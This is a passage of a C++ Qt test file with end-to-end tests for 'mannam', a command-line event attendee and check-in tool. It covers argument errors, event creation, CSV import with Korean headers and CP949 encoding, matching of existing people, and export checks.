// End-to-end tests of the command line: the real `mannam` executable (path in
// MANNAM_BINARY) run with QProcess on real files in a temporary folder, checking
// exit codes, stdout/stderr and the files it reads and writes.
#include "codes/TicketCode.h"
#include "storage/EventFile.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QJsonDocument>
#include <QJsonObject>
#include <QProcess>
#include <QRegularExpression>
#include <QSqlDatabase>
#include <QSqlQuery>
#include <QStringEncoder>
#include <QTemporaryDir>
#include <QTest>
#include <QUuid>

#include <memory>

using namespace Qt::StringLiterals;

namespace mannam {

namespace {

constexpr int ProcessTimeoutMs = 30000;

// What one run of the executable came to.
struct Run
{
    bool finished = false;     // false: still running after the timeout (then killed)
    bool crashed = false;
    int exitCode = -1;
    QString out;
    QString err;

    // For QVERIFY2 messages.
    QByteArray describe() const
    {
        return (u"exit %1%2\n--- stdout:\n%3--- stderr:\n%4"_s)
                .arg(exitCode)
                .arg(!finished ? u" (timed out)"_s : crashed ? u" (crashed)"_s : QString())
                .arg(out, err)
                .toUtf8();
    }
};

QByteArray readBytes(const QString &path)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        return {};
    return file.readAll();
}

bool writeBytes(const QString &path, const QByteArray &bytes)
{
    QFile file(path);
    return file.open(QIODevice::WriteOnly | QIODevice::Truncate) && file.write(bytes) == bytes.size();
}

// An independent RFC 4180 reader for checking what the exporter wrote (not the
// app's own CsvReader, which would check itself).
QList<QStringList> parseCsvText(const QString &text)
{
    QList<QStringList> rows;
    QStringList row;
    QString cell;
    bool quoted = false;
    bool pending = false;  // something of the current row was read
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"') {
                if (i + 1 < text.size() && text.at(i + 1) == u'"') {
                    cell += u'"';
                    ++i;
                } else {
                    quoted = false;
                }
            } else {
                cell += c;
            }
            continue;
        }
        if (c == u'"') {
            quoted = true;
            pending = true;
        } else if (c == u',') {
            row << cell;
            cell.clear();
            pending = true;
        } else if (c == u'\r' && i + 1 < text.size() && text.at(i + 1) == u'\n') {
            continue;
        } else if (c == u'\n') {
            row << cell;
            rows << row;
            row.clear();
            cell.clear();
            pending = false;
        } else {
            cell += c;
            pending = true;
        }
    }
    if (pending) {
        row << cell;
        rows << row;
    }
    return rows;
}

// One cell of a CSV file we feed to the importer.
QString csvCell(const QString &value)
{
    if (!value.contains(u',') && !value.contains(u'"') && !value.contains(u'\n'))
        return value;
    return u'"' + QString(value).replace(u"\""_s, u"\"\""_s) + u'"';
}

// An exported CSV read back: header and rows, cells looked up by column name.
struct Table
{
    QByteArray bytes;
    QStringList header;
    QList<QStringList> rows;
    QString problem;  // empty when the export ran and the file parsed

    QString cell(int row, const QString &column) const
    {
        const qsizetype c = header.indexOf(column);
        return c < 0 ? u"<no column %1>"_s.arg(column) : rows.value(row).value(c);
    }
    QStringList column(const QString &name) const
    {
        QStringList values;
        for (int r = 0; r < rows.size(); ++r)
            values << cell(r, name);
        return values;
    }
    int rowOf(const QString &column, const QString &value) const
    {
        for (int r = 0; r < rows.size(); ++r) {
            if (cell(r, column) == value)
                return r;
        }
        return -1;
    }
};

const QString AttendeesHeader = u"이름,이메일,연락처,소속,티켓 종류,신청번호\n"_s;

// Three people, one name with a comma-free Korean name, one with a quoted comma
// and one English name with a line break inside quotes.
QString threePeopleCsv()
{
    return AttendeesHeader
            + u"홍길동,hong@example.org,010-1234-5678,\"만남, 커뮤니티\",일반,R-1001\n"
              "김민지,minji@example.org,01022223333,AI 스터디,VIP,R-1002\n"
              "\"Ada\nLovelace\",ada@example.org,+82 10 4444 5555,Analytical Engines,Speaker,R-1003\n"_s;
}

} // namespace

class TestCli : public QObject
{
    Q_OBJECT

private:
    QString m_binary;
    std::unique_ptr<QTemporaryDir> m_runtimeDir;  // XDG_RUNTIME_DIR for the child processes
    std::unique_ptr<QTemporaryDir> m_dir;         // fresh for every test function and data row

    QString path(const QString &name) const { return m_dir->filePath(name); }

    QProcessEnvironment environment() const
    {
        QProcessEnvironment env = QProcessEnvironment::systemEnvironment();
        env.insert(u"QT_QPA_PLATFORM"_s, u"offscreen"_s);
        env.insert(u"LC_ALL"_s, u"C.UTF-8"_s);
        // A zone with a non-zero offset, so that exported local times show "+09:00".
        env.insert(u"TZ"_s, u"Asia/Seoul"_s);
        env.insert(u"XDG_RUNTIME_DIR"_s, m_runtimeDir->path());
        // Settings, data and caches of anything the app writes stay out of the user's home.
        env.insert(u"XDG_CONFIG_HOME"_s, m_runtimeDir->filePath(u"config"_s));
        env.insert(u"XDG_DATA_HOME"_s, m_runtimeDir->filePath(u"data"_s));
        env.insert(u"XDG_CACHE_HOME"_s, m_runtimeDir->filePath(u"cache"_s));
        return env;
    }

    Run mannam(const QStringList &arguments, int timeoutMs = ProcessTimeoutMs) const
    {
        QProcess process;
        process.setProcessEnvironment(environment());
        process.setWorkingDirectory(m_dir->path());
        process.start(m_binary, arguments);
        Run run;
        if (!process.waitForStarted(timeoutMs)) {
            run.err = process.errorString();
            return run;
        }
        run.finished = process.waitForFinished(timeoutMs);
        if (!run.finished) {
            process.kill();
            process.waitForFinished(5000);
        }
        run.crashed = process.exitStatus() == QProcess::CrashExit;
        run.exitCode = run.finished && !run.crashed ? process.exitCode() : -1;
        run.out = QString::fromUtf8(process.readAllStandardOutput());
        run.err = QString::fromUtf8(process.readAllStandardError());
        return run;
    }

    // A new event file in the test folder; empty string when `new` failed.
    QString newEvent(const QString &name = u"event.mannam"_s)
    {
        const QString file = path(name);
        const Run run = mannam({u"new"_s, file, u"--name"_s, u"AI 스터디 밋업"_s, u"--desk"_s, u"Desk 1"_s});
        if (run.exitCode != 0) {
            qWarning("new failed: %s", run.describe().constData());
            return {};
        }
        return file;
    }

    Run importText(const QString &event, const QString &csvName, const QByteArray &bytes,
                   const QStringList &extra = {})
    {
        const QString csv = path(csvName);
        if (!writeBytes(csv, bytes)) {
            Run failed;
            failed.err = u"could not write "_s + csv;
            return failed;
        }
        return mannam(QStringList{u"import"_s, event, csv} + extra);
    }

    // An event with the three people of threePeopleCsv(); empty when that failed.
    QString eventWithThreePeople()
    {
        const QString event = newEvent();
        if (event.isEmpty())
            return {};
        const Run run = importText(event, u"three.csv"_s, threePeopleCsv().toUtf8());
        if (run.exitCode != 0) {
            qWarning("import failed: %s", run.describe().constData());
            return {};
        }
        return event;
    }

    Table exportTable(const QString &event, const QString &flag)
    {
        Table table;
        const QString out = path(u"export-%1.csv"_s.arg(QUuid::createUuid().toString(QUuid::Id128)));
        const Run run = mannam({u"export"_s, event, flag, out});
        if (run.exitCode != 0) {
            table.problem = QString::fromUtf8(run.describe());
            return table;
        }
        table.bytes = readBytes(out);
        QFile::remove(out);
        if (!table.bytes.startsWith("\xEF\xBB\xBF")) {
            table.problem = u"no UTF-8 BOM"_s;
            return table;
        }
        const QList<QStringList> rows = parseCsvText(QString::fromUtf8(table.bytes.mid(3)));
        if (rows.isEmpty()) {
            table.problem = u"no header row"_s;
            return table;
        }
        table.header = rows.first();
        table.rows = rows.mid(1);
        return table;
    }

    QString ticketCodeOf(const QString &event, const QString &name)
    {
        const Table table = exportTable(event, u"--attendance"_s);
        const int row = table.rowOf(u"name"_s, name);
        return row < 0 ? QString() : table.cell(row, u"ticket_code"_s);
    }

    QJsonObject statsJson(const QString &event)
    {
        const Run run = mannam({u"stats"_s, event, u"--json"_s});
        if (run.exitCode != 0)
            return {};
        return QJsonDocument::fromJson(run.out.toUtf8()).object();
    }

    // The report line of an import: "Added 1, updated 0, unchanged 2, skipped 0."
    static QString countsLine(const QString &output)
    {
        static const QRegularExpression counts(u"^(Added|Would add) .*$"_s, QRegularExpression::MultilineOption);
        return counts.match(output).captured(0);
    }

    // The names in the event, as the attendance export lists them, sorted.
    QStringList sortedNames(const QString &event)
    {
        QStringList names = exportTable(event, u"--attendance"_s).column(u"name"_s);
        names.sort();
        return names;
    }

    // Files in the test folder, to show that a refused command left nothing behind.
    // SQLite's -wal and -shm files can be left out: a read-only open (export,
    // stats, tickets) leaves them beside the event file.
    enum class Sidecars { Include, Exclude };
    QStringList folderListing(Sidecars sidecars = Sidecars::Include) const
    {
        QStringList names =
                QDir(m_dir->path()).entryList(QDir::Files | QDir::Dirs | QDir::NoDotAndDotDot, QDir::Name);
        if (sidecars == Sidecars::Exclude)
            names.removeIf([](const QString &name) { return name.endsWith(u"-wal") || name.endsWith(u"-shm"); });
        return names;
    }

    // Three registered and one cancelled; 홍길동 in, 김민지 in and out again, a
    // second scan of 홍길동, a misread and a cancelled ticket at the door.
    QString eventAfterAnEvening()
    {
        const QString event = eventWithThreePeople();
        if (event.isEmpty())
            return {};
        if (importText(event, u"cancel.csv"_s, u"이름,상태\n취소한사람,취소\n"_s.toUtf8()).exitCode != 0)
            return {};
        const QString hong = ticketCodeOf(event, u"홍길동"_s);
        const QString minji = ticketCodeOf(event, u"김민지"_s);
        const QString cancelled = ticketCodeOf(event, u"취소한사람"_s);
        const QList<QPair<QStringList, int>> scans = {
            {{hong}, 0}, {{hong}, 1}, {{minji}, 0}, {{minji, u"--exit"_s}, 0}, {{u"1234 5678"_s}, 2},
            {{cancelled}, 2}};
        for (const auto &[arguments, exitCode] : scans) {
            const Run run = mannam(QStringList{u"checkin"_s, event, u"--desk"_s, u"Desk 1"_s} + arguments);
            if (run.exitCode != exitCode) {
                qWarning("unexpected: %s", run.describe().constData());
                return {};
            }
        }
        return event;
    }

private slots:
    void initTestCase()
    {
        m_binary = qEnvironmentVariable("MANNAM_BINARY");
        QVERIFY2(!m_binary.isEmpty(), "MANNAM_BINARY is not set; run through ctest");
        QVERIFY2(QFileInfo(m_binary).isExecutable(), qPrintable(m_binary));
        m_runtimeDir = std::make_unique<QTemporaryDir>();
        QVERIFY(m_runtimeDir->isValid());
        QFile::setPermissions(m_runtimeDir->path(), QFile::ReadOwner | QFile::WriteOwner | QFile::ExeOwner);
    }

    void init()
    {
        m_dir = std::make_unique<QTemporaryDir>();
        QVERIFY(m_dir->isValid());
    }

    void cleanup()
    {
        m_dir.reset();
    }

    // ---------------------------------------------------------------- general

    void version_printsNameAndVersion()
    {
        const Run run = mannam({u"--version"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(run.out, u"mannam "_s + QStringLiteral(MANNAM_VERSION) + u'\n');
    }

    void help_listsEveryVerbAndTheExitCodes()
    {
        const Run run = mannam({u"--help"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        for (const QString &verb : {u"new"_s, u"import"_s, u"export"_s, u"tickets"_s, u"checkin"_s, u"stats"_s})
            QVERIFY2(run.out.contains(u"mannam "_s + verb + u' '), qPrintable(verb));
        QVERIFY(run.out.contains(u"Exit codes"_s));
        QVERIFY(run.err.isEmpty());
    }

    void badArguments_exitThreeWithUsageOnStderr_data()
    {
        QTest::addColumn<QStringList>("arguments");
        QTest::addColumn<QString>("message");
        QTest::addRow("unknown top-level option") << QStringList{u"--bogus"_s} << u"Unknown option 'bogus'"_s;
        QTest::addRow("unknown option of a verb")
                << QStringList{u"stats"_s, u"event.mannam"_s, u"--bogus"_s} << u"Unknown option 'bogus'"_s;
        QTest::addRow("option value missing")
                << QStringList{u"checkin"_s, u"event.mannam"_s, u"1234"_s, u"--desk"_s} << u"desk"_s;
        QTest::addRow("checkin without a code") << QStringList{u"checkin"_s, u"event.mannam"_s} << u"checkin:"_s;
        QTest::addRow("stats without a file") << QStringList{u"stats"_s} << u"stats:"_s;
        QTest::addRow("import without a csv") << QStringList{u"import"_s, u"event.mannam"_s} << u"import:"_s;
        QTest::addRow("import with an unknown encoding")
                << QStringList{u"import"_s, u"event.mannam"_s, u"a.csv"_s, u"--encoding"_s, u"latin1"_s}
                << u"unknown encoding 'latin1'"_s;
        QTest::addRow("tickets without --out") << QStringList{u"tickets"_s, u"event.mannam"_s} << u"tickets:"_s;
    }

    void badArguments_exitThreeWithUsageOnStderr()
    {
        QFETCH(QStringList, arguments);
        QFETCH(QString, message);
        const Run run = mannam(arguments);
        QVERIFY2(run.exitCode == 3, run.describe());
        QVERIFY2(run.err.contains(message), run.describe());
        QVERIFY2(run.err.contains(u"Usage:"_s), run.describe());
        QVERIFY(run.out.isEmpty());
    }

    // A mistyped verb must not open the app and wait for somebody to close a window.
    void unknownVerb_exitsThreeWithUsageOnStderr()
    {
        const Run run = mannam({u"chekin"_s, u"event.mannam"_s, u"1234"_s}, 4000);
        QVERIFY2(run.finished, "still running after 4 s: the app window opened instead of a usage error");
        QVERIFY2(run.exitCode == 3, run.describe());
        QVERIFY2(run.err.contains(u"Usage:"_s), run.describe());
    }

    // ---------------------------------------------------------------- new

    void new_createsEventFile()
    {
        const QString file = path(u"meetup.mannam"_s);
        const Run run = mannam({u"new"_s, file, u"--name"_s, u"AI 스터디 밋업 #12"_s, u"--venue"_s, u"강남"_s,
                                u"--starts"_s, u"2026-11-28T14:00+09:00"_s, u"--ends"_s, u"2026-11-28T18:00+09:00"_s,
                                u"--desk"_s, u"Desk 1"_s, u"--desk"_s, u"Desk 2"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.contains(u"Created"_s) && run.out.contains(u"AI 스터디 밋업 #12"_s), run.describe());
        QVERIFY(readBytes(file).startsWith("SQLite format 3"));

        const QJsonObject stats = statsJson(file);
        QCOMPARE(stats.value(u"event"_s).toString(), u"AI 스터디 밋업 #12"_s);
        QCOMPARE(stats.value(u"registered"_s).toInt(-1), 0);
    }

    void new_existingPath_exitsFourAndLeavesFileUnchanged_data()
    {
        QTest::addColumn<bool>("mannamFile");
        QTest::addRow("an event file") << true;
        QTest::addRow("some other file") << false;
    }

    void new_existingPath_exitsFourAndLeavesFileUnchanged()
    {
        QFETCH(bool, mannamFile);
        const QString file = path(u"event.mannam"_s);
        if (mannamFile)
            QVERIFY(!eventWithThreePeople().isEmpty());
        else
            QVERIFY(writeBytes(file, "my notes, not an event\n"));
        const QByteArray before = readBytes(file);
        const QStringList listing = folderListing();

        const Run run = mannam({u"new"_s, file, u"--name"_s, u"Other"_s});
        QVERIFY2(run.exitCode == 4, run.describe());
        QVERIFY2(run.err.contains(u"already exists"_s), run.describe());
        QCOMPARE(readBytes(file), before);
        QCOMPARE(folderListing(), listing);
    }

    void new_badArguments_exitThreeAndCreateNothing_data()
    {
        QTest::addColumn<QStringList>("options");
        QTest::addColumn<QString>("message");
        QTest::addRow("no --name") << QStringList{u"--venue"_s, u"강남"_s} << u"--name is required"_s;
        QTest::addRow("blank --name") << QStringList{u"--name"_s, u"   "_s} << u"--name is required"_s;
        QTest::addRow("bad --starts") << QStringList{u"--name"_s, u"X"_s, u"--starts"_s, u"next friday"_s}
                                      << u"'next friday' is not an ISO 8601"_s;
        QTest::addRow("bad --ends") << QStringList{u"--name"_s, u"X"_s, u"--ends"_s, u"2026-13-45T25:00"_s}
                                    << u"is not an ISO 8601"_s;
        QTest::addRow("ends before starts")
                << QStringList{u"--name"_s, u"X"_s, u"--starts"_s, u"2026-11-28T14:00+09:00"_s, u"--ends"_s,
                               u"2026-11-28T13:59+09:00"_s}
                << u"ends before it starts"_s;
        QTest::addRow("ends before starts, other offsets")
                << QStringList{u"--name"_s, u"X"_s, u"--starts"_s, u"2026-11-28T14:00+09:00"_s, u"--ends"_s,
                               u"2026-11-28T04:30Z"_s}
                << u"ends before it starts"_s;
    }

    void new_badArguments_exitThreeAndCreateNothing()
    {
        QFETCH(QStringList, options);
        QFETCH(QString, message);
        const Run run = mannam(QStringList{u"new"_s, path(u"event.mannam"_s)} + options);
        QVERIFY2(run.exitCode == 3, run.describe());
        QVERIFY2(run.err.contains(message), run.describe());
        QVERIFY2(run.err.contains(u"Usage:"_s), run.describe());
        QCOMPARE(folderListing(), QStringList());
    }

    // ---------------------------------------------------------------- import

    void import_koreanHeaders_addsEveryoneWithTheirFields()
    {
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run run = importText(event, u"festa.csv"_s, threePeopleCsv().toUtf8());
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.contains(u"Encoding: utf-8"_s), run.describe());
        QVERIFY2(run.out.contains(u"이름 → name, 이메일 → email, 연락처 → phone, 소속 → affiliation, "
                                  "티켓 종류 → ticket_type, 신청번호 → external_id"_s),
                 run.describe());
        QCOMPARE(countsLine(run.out), u"Added 3, updated 0, unchanged 0, skipped 0."_s);

        const Table table = exportTable(event, u"--attendance"_s);
        QVERIFY2(table.problem.isEmpty(), qPrintable(table.problem));
        QCOMPARE(table.rows.size(), 3);
        QCOMPARE(table.column(u"name"_s), QStringList({u"홍길동"_s, u"김민지"_s, u"Ada\nLovelace"_s}));
        QCOMPARE(table.column(u"affiliation"_s),
                 QStringList({u"만남, 커뮤니티"_s, u"AI 스터디"_s, u"Analytical Engines"_s}));
        QCOMPARE(table.column(u"phone"_s), QStringList({u"010-1234-5678"_s, u"010-2222-3333"_s, u"010-4444-5555"_s}));
        QCOMPARE(table.column(u"external_id"_s), QStringList({u"R-1001"_s, u"R-1002"_s, u"R-1003"_s}));
        QCOMPARE(table.column(u"status"_s), QStringList(3, u"registered"_s));
        static const QRegularExpression generated(u"^\\d{24}$"_s);
        for (const QString &code : table.column(u"ticket_code"_s))
            QVERIFY2(generated.match(code).hasMatch(), qPrintable(code));
        QCOMPARE(statsJson(event).value(u"registered"_s).toInt(-1), 3);
    }

    void import_encodings_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QString>("reportedEncoding");

        // 똠 and 샾 are outside EUC-KR: only Windows' CP949 (UHC) has them.
        const QString text = u"이름,이메일,연락처,소속\r\n"
                             "홍길동,hong@example.org,010-1234-5678,\"만남, 주식회사\"\r\n"
                             "똠방각하,ddom@example.org,010-2345-6789,샾 연구소\r\n"_s;
        QStringEncoder cp949("windows-949");
        QVERIFY(cp949.isValid());
        const QByteArray cp949Bytes = cp949.encode(text);
        QVERIFY(!cp949.hasError());
        QVERIFY(cp949Bytes != text.toUtf8());

        QTest::addRow("utf-8") << text.toUtf8() << u"utf-8"_s;
        QTest::addRow("utf-8 with BOM") << QByteArray("\xEF\xBB\xBF" + text.toUtf8()) << u"utf-8"_s;
        QTest::addRow("cp949") << cp949Bytes << u"cp949"_s;
    }

    void import_encodings()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QString, reportedEncoding);
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run run = importText(event, u"people.csv"_s, bytes);
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.contains(u"Encoding: "_s + reportedEncoding), run.describe());
        // The BOM is not part of the first header: 이름 is still recognised.
        QVERIFY2(run.out.contains(u"Columns: 이름 → name,"_s), run.describe());
        QCOMPARE(countsLine(run.out), u"Added 2, updated 0, unchanged 0, skipped 0."_s);

        const Table table = exportTable(event, u"--attendance"_s);
        QVERIFY2(table.problem.isEmpty(), qPrintable(table.problem));
        QCOMPARE(table.column(u"name"_s), QStringList({u"홍길동"_s, u"똠방각하"_s}));
        QCOMPARE(table.column(u"affiliation"_s), QStringList({u"만남, 주식회사"_s, u"샾 연구소"_s}));
    }

    void import_dryRun_reportsEachLineAndChangesNothing()
    {
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        QVERIFY(importText(event, u"first.csv"_s,
                           (AttendeesHeader + u"홍길동,hong@example.org,010-1234-5678,만남,일반,R-1001\n"_s).toUtf8())
                        .exitCode
                == 0);
        const QByteArray eventBefore = readBytes(event);
        const QJsonObject statsBefore = statsJson(event);

        // Line 3 holds a line break inside quotes, so the next record starts on line 5.
        const QString csv = AttendeesHeader
                + u"홍길동,hong@example.org,010-9999-8888,만남,일반,R-1001\n"
                  "\"Ada\nLovelace\",ada@example.org,,,,R-1003\n"
                  ",nobody@example.org,,,,\n"
                  "김민지,minji@example.org,,,,R-1002\n"
                  "김민지,minji@example.org,,,,R-1002\n"_s;
        const Run run = importText(event, u"second.csv"_s, csv.toUtf8(), {u"--dry-run"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(countsLine(run.out), u"Would add 2, update 1, leave 0 unchanged, skip 2."_s);
        QVERIFY2(run.out.contains(u"line 2: update 홍길동 (phone)"_s), run.describe());
        QVERIFY2(run.out.contains(u"line 3: add Ada\nLovelace"_s), run.describe());
        QVERIFY2(run.out.contains(u"line 5: skip (no name)"_s), run.describe());
        QVERIFY2(run.out.contains(u"line 6: add 김민지"_s), run.describe());
        QVERIFY2(run.out.contains(u"line 7: skip 김민지 — the same person as line 6"_s), run.describe());

        QCOMPARE(statsJson(event), statsBefore);
        QCOMPARE(readBytes(event), eventBefore);
        QCOMPARE(sortedNames(event), QStringList({u"홍길동"_s}));
    }

    void import_sameFileTwice_secondRunChangesNothing()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const Table before = exportTable(event, u"--attendance"_s);

        const Run again = mannam({u"import"_s, event, path(u"three.csv"_s)});
        QVERIFY2(again.exitCode == 0, again.describe());
        QCOMPARE(countsLine(again.out), u"Added 0, updated 0, unchanged 3, skipped 0."_s);
        QCOMPARE(exportTable(event, u"--attendance"_s).bytes, before.bytes);
    }

    void import_updatedExport_addsNewAndUpdatesChanged()
    {
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QString codeBefore = ticketCodeOf(event, u"김민지"_s);

        const QString updated = AttendeesHeader
                + u"홍길동,hong@example.org,010-1234-5678,\"만남, 커뮤니티\",일반,R-1001\n"
                  "김민지,minji@example.org,010-7777-8888,AI 스터디,VIP,R-1002\n"
                  "\"Ada\nLovelace\",ada@example.org,+82 10 4444 5555,Analytical Engines,Speaker,R-1003\n"
                  "이서준,seojun@example.org,010-5555-6666,오픈소스 모임,일반,R-1004\n"_s;
        const Run run = importText(event, u"updated.csv"_s, updated.toUtf8());
        QVERIFY2(run.exitCode == 0, run.describe());
        QCOMPARE(countsLine(run.out), u"Added 1, updated 1, unchanged 2, skipped 0."_s);

        const Table table = exportTable(event, u"--attendance"_s);
        QCOMPARE(table.rows.size(), 4);
        const int minji = table.rowOf(u"name"_s, u"김민지"_s);
        QCOMPARE(table.cell(minji, u"phone"_s), u"010-7777-8888"_s);
        QCOMPARE(table.cell(minji, u"ticket_code"_s), codeBefore);  // codes survive an update
        QVERIFY(table.rowOf(u"name"_s, u"이서준"_s) >= 0);
    }

    void import_matchesExistingPeople_data()
    {
        QTest::addColumn<QString>("first");
        QTest::addColumn<QString>("second");
        QTest::addColumn<QString>("counts");
        QTest::addColumn<QStringList>("names");

        QTest::addRow("by external id, although name, email and phone changed")
                << u"이름,이메일,연락처,신청번호\n홍길동,hong@example.org,010-1234-5678,R-1\n"
                   "김민지,minji@example.org,010-2222-3333,R-2\n"_s
                << u"이름,이메일,연락처,신청번호\n홍길동 (개명),hong2@example.org,010-9999-0000,R-1\n"_s
                << u"Added 0, updated 1, unchanged 0, skipped 0."_s
                << QStringList{u"김민지"_s, u"홍길동 (개명)"_s};
        QTest::addRow("external id before email")
                << u"이름,이메일,신청번호\nAlice,alice@example.org,R-1\nBob,bob@example.org,R-2\n"_s
                << u"이름,이메일,신청번호\nAlice Kim,bob@example.org,R-1\n"_s
                << u"Added 0, updated 1, unchanged 0, skipped 0."_s
                << QStringList{u"Alice Kim"_s, u"Bob"_s};
        QTest::addRow("by email, ignoring case")
                << u"Name,Email,Phone\nAda Lovelace,ada@example.org,010-1111-2222\n"_s
                << u"Name,Email,Phone\nAda King,ADA@Example.ORG,010-1111-9999\n"_s
                << u"Added 0, updated 1, unchanged 0, skipped 0."_s << QStringList{u"Ada King"_s};
        QTest::addRow("email before phone")
                << u"Name,Email,Phone\nA,a@example.org,010-1111-1111\nB,b@example.org,010-2222-2222\n"_s
                << u"Name,Email,Phone\nA2,a@example.org,010-2222-2222\n"_s
                << u"Added 0, updated 1, unchanged 0, skipped 0."_s << QStringList{u"A2"_s, u"B"_s};
        QTest::addRow("by phone, written differently")
                << u"이름,연락처\n이서준,010-5555-6666\n"_s
                << u"이름,연락처,소속\n이서준 (Seojun Lee),+82 10 5555 6666,만남랩\n"_s
                << u"Added 0, updated 1, unchanged 0, skipped 0."_s << QStringList{u"이서준 (Seojun Lee)"_s};
        QTest::addRow("same email, other external id: another ticket of one buyer")
                << u"이름,이메일,신청번호\n구매자,buyer@example.org,R-1\n"_s
                << u"이름,이메일,신청번호\n구매자,buyer@example.org,R-1\n동행인,buyer@example.org,R-2\n"_s
                << u"Added 1, updated 0, unchanged 1, skipped 0."_s << QStringList{u"구매자"_s, u"동행인"_s};
        QTest::addRow("nothing matches: a new person")
                << u"이름,이메일,연락처\n홍길동,hong@example.org,010-1234-5678\n"_s
                << u"이름,이메일,연락처\n홍길동,other@example.org,010-8765-4321\n"_s
                << u"Added 1, updated 0, unchanged 0, skipped 0."_s << QStringList{u"홍길동"_s, u"홍길동"_s};
    }

    void import_matchesExistingPeople()
    {
        QFETCH(QString, first);
        QFETCH(QString, second);
        QFETCH(QString, counts);
        QFETCH(QStringList, names);
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run firstRun = importText(event, u"first.csv"_s, first.toUtf8());
        QVERIFY2(firstRun.exitCode == 0, firstRun.describe());
        const Run secondRun = importText(event, u"second.csv"_s, second.toUtf8());
        QVERIFY2(secondRun.exitCode == 0, secondRun.describe());
        QCOMPARE(countsLine(secondRun.out), counts);
        QCOMPARE(sortedNames(event), names);
    }

    void import_explicitMap_namesAColumnThatIsNotGuessed()
    {
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const QByteArray csv = u"배지에 적을 표기,메일\n김철수,kim@example.org\n"_s.toUtf8();

        const Run unmapped = importText(event, u"badge.csv"_s, csv);
        QVERIFY2(unmapped.exitCode == 5, unmapped.describe());
        QVERIFY2(unmapped.err.contains(u"No column holds the attendees' names"_s), unmapped.describe());

        const Run mapped = mannam({u"import"_s, event, path(u"badge.csv"_s), u"--map"_s, u"배지에 적을 표기=name"_s});
        QVERIFY2(mapped.exitCode == 0, mapped.describe());
        QVERIFY2(mapped.out.contains(u"배지에 적을 표기 → name"_s), mapped.describe());
        QCOMPARE(countsLine(mapped.out), u"Added 1, updated 0, unchanged 0, skipped 0."_s);
        QCOMPARE(sortedNames(event), QStringList({u"김철수"_s}));
    }

    // "참가자 성함" is recognised without help; --map to the same field changes nothing.
    void import_explicitMap_agreesWithAGuess()
    {
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const Run run = importText(event, u"form.csv"_s, u"참가자 성함,이메일\n김철수,kim@example.org\n"_s.toUtf8(),
                                   {u"--map"_s, u"참가자 성함=name"_s});
        QVERIFY2(run.exitCode == 0, run.describe());
        QVERIFY2(run.out.contains(u"참가자 성함 → name"_s), run.describe());
        QCOMPARE(sortedNames(event), QStringList({u"김철수"_s}));
    }

    void import_badMap_data()
    {
        QTest::addColumn<QString>("mapping");
        QTest::addColumn<int>("exitCode");
        QTest::addColumn<QString>("message");
        // The column is checked against the file, so it is an input error (5), not bad arguments.
        QTest::addRow("no such column") << u"참가자=name"_s << 5 << u"The file has no column '참가자'"_s;
        // An unknown field is known before the file is read: bad arguments.
        QTest::addRow("no such field") << u"이름=nickname"_s << 3 << u"unknown field 'nickname' in --map"_s;
        QTest::addRow("no '='") << u"이름"_s << 3 << u"--map takes COLUMN=FIELD"_s;
        QTest::addRow("nothing before '='") << u"=name"_s << 3 << u"--map takes COLUMN=FIELD"_s;
    }

    void import_badMap()
    {
        QFETCH(QString, mapping);
        QFETCH(int, exitCode);
        QFETCH(QString, message);
        const QString event = newEvent();
        QVERIFY(!event.isEmpty());
        const QByteArray before = readBytes(event);
        const Run run = importText(event, u"people.csv"_s, u"이름,이메일\n김철수,kim@example.org\n"_s.toUtf8(),
                                   {u"--map"_s, mapping});
        QVERIFY2(run.exitCode == exitCode, run.describe());
        QVERIFY2(run.err.contains(message), run.describe());
        QCOMPARE(readBytes(event), before);
        QCOMPARE(statsJson(event).value(u"registered"_s).toInt(-1), 0);
    }

    void import_brokenInput_exitsFiveAndImportsNothing_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QStringList>("extra");
        QTest::addColumn<QStringList>("messages");

        QTest::addRow("unterminated quote at line 4")
                << u"이름,이메일\n김철수,kim@example.org\n이영희,lee@example.org\n\"박민수,park@example.org\n"
                   "최지우,choi@example.org\n"_s.toUtf8()
                << QStringList() << QStringList{u"nothing imported"_s, u"Line 4"_s, u"never closed"_s};
        QTest::addRow("more fields than the header")
                << u"이름,이메일\n김철수,kim@example.org\n이영희,lee@example.org,extra\n"_s.toUtf8()
                << QStringList() << QStringList{u"nothing imported"_s, u"Line 3"_s};
        QTest::addRow("no name column")
                << u"email,phone\nkim@example.org,010-1111-2222\n"_s.toUtf8() << QStringList()
                << QStringList{u"nothing imported"_s, u"No column holds the attendees' names"_s,
                               u"Columns: email, phone"_s};
        QTest::addRow("empty file") << QByteArray() << QStringList()
                                    << QStringList{u"nothing imported"_s, u"empty"_s};
        QTest::addRow("utf-8 file read as cp949")
                << u"이름,이메일\n김철수,kim@example.org\n"_s.toUtf8() << QStringList{u"--encoding"_s, u"cp949"_s}
                << QStringList{u"nothing imported"_s, u"Line 1"_s, u"not valid CP949"_s};
        QTest::addRow("binary, neither utf-8 nor cp949")
                << QByteArray("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\xff\xff\x80\x80", 20) << QStringList()
                << QStringList{u"nothing imported"_s};
    }

    void import_brokenInput_exitsFiveAndImportsNothing()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QStringList, extra);
        QFETCH(QStringList, messages);
        const QString event = eventWithThreePeople();
        QVERIFY(!event.isEmpty());
        const QByteArray before = readBytes(event);

